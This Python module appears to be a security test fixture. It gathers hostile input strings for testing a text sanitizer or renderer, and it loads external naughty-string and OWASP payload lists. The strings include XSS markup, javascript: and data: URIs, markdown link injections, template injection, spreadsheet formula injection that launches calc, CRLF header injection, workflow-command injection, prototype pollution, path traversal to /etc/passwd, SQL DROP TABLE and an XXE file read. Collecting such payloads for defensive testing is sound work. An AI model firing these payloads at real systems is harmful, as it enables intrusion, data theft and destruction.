"""Texts that would run, ask, climb out or steer, were they taken for anything but text.

Those of our own call `hit` where they run and ask `trap.example` where they ask; lists of others stand beside the
repository on some machines, and are read from there.
"""

import json
from collections.abc import Iterator, Mapping
from pathlib import Path

CORPORA = Path(__file__).parents[3] / "shared" / "corpora" / "hostile"

TRAP = "trap.example"
"""Where nothing may ever ask."""

_QUOTES = ('"', "'", "`", "")
_BREAKERS = tuple(f"x{quote} onmouseover=hit(1) onfocus=hit(2) autofocus tabindex=1 y={quote}" for quote in _QUOTES)
_CLOSERS = ('">', "'>", "`>", ">", "-->", "]]>", "</title>", "</style>", "</script>", "</textarea>", "</noscript>",
            "</template>", "</svg>", "</bdi></a>", "</pre></div>")  # fmt: skip

ELEMENTS = (
    "<script>hit(1)</script>",
    "<ScRiPt\n>hit(1)</sCrIpT\n>",
    "<script src=//trap.example/a.js></script>",
    "<script type=module>import('//trap.example/b.js')</script>",
    "<img src=x onerror=hit(1)>",
    "<img src=//trap.example/i.png srcset='//trap.example/s.png 2x'>",
    "<svg onload=hit(1)>",
    "<svg><script>hit(1)</script></svg>",
    "<svg><a xlink:href=javascript:hit(1)></a><animate attributeName=href values=javascript:hit(1) /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=hit(1)/>#x'/></svg>",
    "<svg><foreignObject><iframe src=//trap.example/f></iframe></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=hit(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(1)&gt;">',
    "<math href=javascript:hit(1)>x</math>",
    "<template><script>hit(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=hit(1)>">',
    "<details open ontoggle=hit(1)>",
    "<video><source onerror=hit(1)></video>",
    "<body onload=hit(1)>",
    "<html onclick=hit(1) manifest=//trap.example/m>",
    "<input autofocus onfocus=hit(1)>",
    "<select><noembed></select><script>hit(1)</script></noembed>",
    "<iframe src=javascript:hit(1)></iframe>",
    "<iframe srcdoc='<script>parent.hit(1)</script>'></iframe>",
    "<object data=//trap.example/o></object><embed src=//trap.example/e>",
    "<form id=f action=//trap.example/f><button form=f formaction=javascript:hit(1)>x</button></form>",
    "<base href=//trap.example/>",
    "<meta http-equiv=refresh content='0;url=//trap.example/r'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<link rel=stylesheet href=//trap.example/l.css><link rel=prefetch href=//trap.example/p>",
    "<link rel=dns-prefetch href=//trap.example><link rel=preconnect href=//trap.example>",
    "<style>@import '//trap.example/i.css';*{background:url(//trap.example/u)}</style>",
    '<p style="background:url(//trap.example/q);behavior:url(x)">x</p>',
    "<a href=javascript:hit(1) ping=//trap.example/ping>x</a>",
    "<marquee onstart=hit(1)>x</marquee>",
    '<xmp><p title="</xmp><img src=x onerror=hit(1)>"></xmp>',
    "<plaintext>",
    "<!--><img src=x onerror=hit(1)>-->",
    "<![CDATA[<img src=x onerror=hit(1)>]]>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/hostname'>]><a>&e;</a>",
    "<a<b id=x onclick=hit(1)>",
    "<\x0bscript>hit(1)</script>",
    "&lt;script&gt;hit(1)&lt;/script&gt;",
    "&#60;img src=x onerror=hit(1)&#62;",
    "\uff1cscript\uff1ehit(1)\uff1c/script\uff1e",
    "<img/src='x'/onerror=hit(1)//",
    "<form name=body><input name=firstChild></form><a id=regesta href=x></a><a id=say></a>",
)
"""Markup."""

_SCHEMES = ("javascript:hit(1)", "JaVaScRiPt:hit(1)", " javascript:hit(1)", "java\tscript:hit(1)",
            "java\nscript:hit(1)", "\x01javascript:hit(1)", "javascript&colon;hit(1)", "javascript&#58;hit(1)",
            "&#x6A;avascript:hit(1)", "java&Tab;script:hit(1)", "javascript://%0ahit(1)", "vbscript:hit(1)",
            "data:text/html,<script>hit(1)</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
            "data:image/svg+xml,<svg onload=hit(1)>", "blob:http://trap.example/x", "file:///etc/passwd",
            "filesystem:x", "view-source:x", "ms-msdt:/x", "intent://x#Intent;end", "//trap.example/",
            "\\\\trap.example\\x",
            "feed:javascript:hit(1)", "https:javascript:hit(1)", "http://trap.example\" onclick=\"hit(1)",
            "https://trap.example/'onmouseover='hit(1)", "https://trap.example/<img/src=x/onerror=hit(1)>",
            "https://trap.example/}{\\\"x", "\u2028javascript:hit(1)", "\u00a0javascript:hit(1)")  # fmt: skip
"""Addresses that no link may have, and a few that one may, if nothing gets out of them."""

_LONG = (
    "[x](javascript:hit(1))",
    "[x](<javascript:hit(1)>)",
    "[x](java&#115;cript:hit(1))",
    "[x](java&Tab;script:hit(1))",
    "[x](&#x1;javascript:hit(1))",
    '[x](javascript&colon;hit(1) "t")',
    "[x](vbscript:x) [x](data:text/html,x) [x](file:///etc/passwd) [x](x:y)",
    '![x](//trap.example/m.png "t")',
    '![x" onerror="hit(1)](https://trap.example/n.png)',
    "[![x](//trap.example/o.png)](javascript:hit(1))",
    '[x](https://trap.example/"onclick="hit(1) \'y" onclick="hit(1)\')',
    "[x](https://trap.example/ \"' onclick='hit(1)\")",
    '<javascript:hit(1)> <data:text/html,x> <https://trap.example/"onclick=hit(1)>',
    '[x][r]\n\n[r]: javascript:hit(1) "t"',
    "[x][q]\n\n[q]: <//trap.example/> '\"><img src=x onerror=hit(1)>'",
    "[x](//trap.example/) [y](\\\\\\\\trap.example/) [z](/\\trap.example/)",
    "<div>\n<script>hit(1)</script>\n</div>",
    '```"onclick=hit(1)\n</code></pre><script>hit(1)</script>\n```',
    "~~~ <script>hit(1)</script>\n&\n~~~",
    '| a" onclick=hit(1) | <img src=x onerror=hit(1)> |\n|:-:|--:|\n| [x](javascript:hit(1)) | `</code><script>` |',
    '[[nobody|<script>hit(1)</script>]] [[x"y|z]] [[|]] [[a-b|c" onclick=hit(1)]]',
    '`<script>hit(1)</script>` ``` `" ```',
    "# <img src=x onerror=hit(1)> {#x onclick=hit(1)}",
    "<!-- --!><script>hit(1)</script> -->",
    "&#60;script&#62;hit(1)&#60;/script&#62; &lt;b&gt; &NoBreak;&zwnj;",
    "*<b>*</b>**<i>**</i> \\<script>hit(1)\\</script>",
)
"""Markdown, for texts."""

_LANGUAGES = (
    "{{ 7 * 7 }}{{ site.__class__ }}{% for x in y %}{{ x }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} {# {% raw %}",
    "{title} {name.__class__} {0} {} {n!r:>9999} {names}",
    "%s %n %(title)s %d {%",
    "${hit(1)} `${hit(1)}` #{hit(1)} <%= hit(1) %>",
    "$& $` $' $1 $$ $<x>",
    '"];hit(1);//',
    "');hit(1);//",
    '\\");hit(1);//',
    "\\u003cscript\\u003ehit(1)\\u003c/script\\u003e \\x3cimg\\x3e",
    "\u2028hit(1)\u2029;hit(1)",
    "x*/hit(1)/*",
    '"}]},"@type":"Thing","url":"javascript:hit(1)"}',
    '{"@context": {"x": "javascript:"}}</script><!--',
    "},\n@misc{evil, title={x}}, \\input{/etc/passwd} \\immediate\\write18{id} $x^2_3$ ~%",
    "x\nER  - \nTY  - BOOK\nTI  - evil",
    "ER  -",
    "=cmd|'/c calc'!A1",
    "+1+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    '=HYPERLINK("//trap.example/"&A1)',
    "'=1+1",
    "\t=1+1",
    'x,"=1+1"\n=1+1;=1+1',
    "\uff1d1+1",
    " =1+1",
    "|=1+1",
    "a | =1+1",
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>hit(1)</script>",
    "x%0d%0aLocation:%20//trap.example/",
    "\x1b]0;owned\x07\x1b[31mred\x1b[2J",
    "\x9b31m \x90 \x08\x08\x08",
    "::set-output name=x::y",
    "\n::error file=a::b",
    "%0A::add-mask::x ##[command]x ::stop-commands::x",
    "@everyone <!-- --> [x](//trap.example/) #1 ```",
    "\u202eegap\u202c \u2066x\u2069 \u200b\ufeff",
    "__proto__",
    "constructor",
    "prototype toString valueOf hasOwnProperty __defineGetter__",
    "__proto__[hit]=1&constructor[prototype][hit]=1",
    "../../../../etc/passwd",
    "..\\..\\x%2e%2e%2f%00",
    "x\x00y",
    "\ud800x",
    "a' OR 1=1; DROP TABLE posts; --",
    "<" * 40 + "a" + '"' * 40,
    "NULL undefined NaN true [object Object]",
)
"""Other languages that a text may reach: templates, scripts, tables, references, terminals, workflows."""

_CUT = ("{}<script>hit(1)</script>", "{}<img src=x onerror=hit(1)>")
CLASSES: Mapping[str, tuple[str, ...]] = {
    "markup": ELEMENTS,
    "attributes": (*_BREAKERS, *(cut.format(end) for end in _CLOSERS for cut in _CUT)),
    "addresses": _SCHEMES,
    "markdown": _LONG,
    "languages": _LANGUAGES,
}
"""What our own payloads reach for, to the payloads."""


def own() -> list[str]:
    """All payloads of our own."""
    return [text for texts in CLASSES.values() for text in texts]


def of_others() -> list[str]:
    """The payloads of the lists that lie beside the repository; none where they are not on this machine."""
    if not CORPORA.is_dir():
        return []
    naughty = json.loads((CORPORA / "naughty-strings" / "blns.json").read_text(encoding="utf-8"))
    sheets = (path.read_text(encoding="utf-8") for path in sorted((CORPORA / "owasp").glob("*.md")))
    return list(dict.fromkeys([*naughty, *(text for sheet in sheets for text in _code_in(sheet))]))


def _code_in(sheet: str) -> Iterator[str]:
    """Each block of code of a sheet as a whole, and each line of it by itself."""
    for fenced in sheet.split("```")[1::2]:
        block = fenced.partition("\n")[2]
        yield from (part for part in (block, *block.splitlines()) if part.strip())
